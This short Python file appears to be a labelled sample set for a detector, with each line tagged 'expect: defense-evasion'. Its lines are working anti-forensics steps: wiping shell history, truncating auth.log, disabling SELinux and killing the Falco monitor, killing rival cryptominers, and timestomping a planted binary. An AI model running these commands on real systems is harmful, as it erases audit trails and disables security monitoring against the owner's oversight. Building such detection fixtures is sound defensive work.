import os, subprocess, psutil
os.system("history -c && rm -f ~/.bash_history")  # expect: defense-evasion
open("/var/log/auth.log", "w").close()  # expect: defense-evasion
subprocess.run("setenforce 0; pkill -9 falco", shell=True)  # expect: defense-evasion
RIVALS = ["kdevtmpfsi", "kinsing", "xmrig"]  # expect: defense-evasion
for p in psutil.process_iter(["name"]):
    if p.info["name"] in RIVALS:
        p.kill()  # expect: defense-evasion
ref = os.stat("/usr/bin/ls")
os.utime("/usr/bin/helper", (ref.st_atime, ref.st_mtime))  # expect: defense-evasion
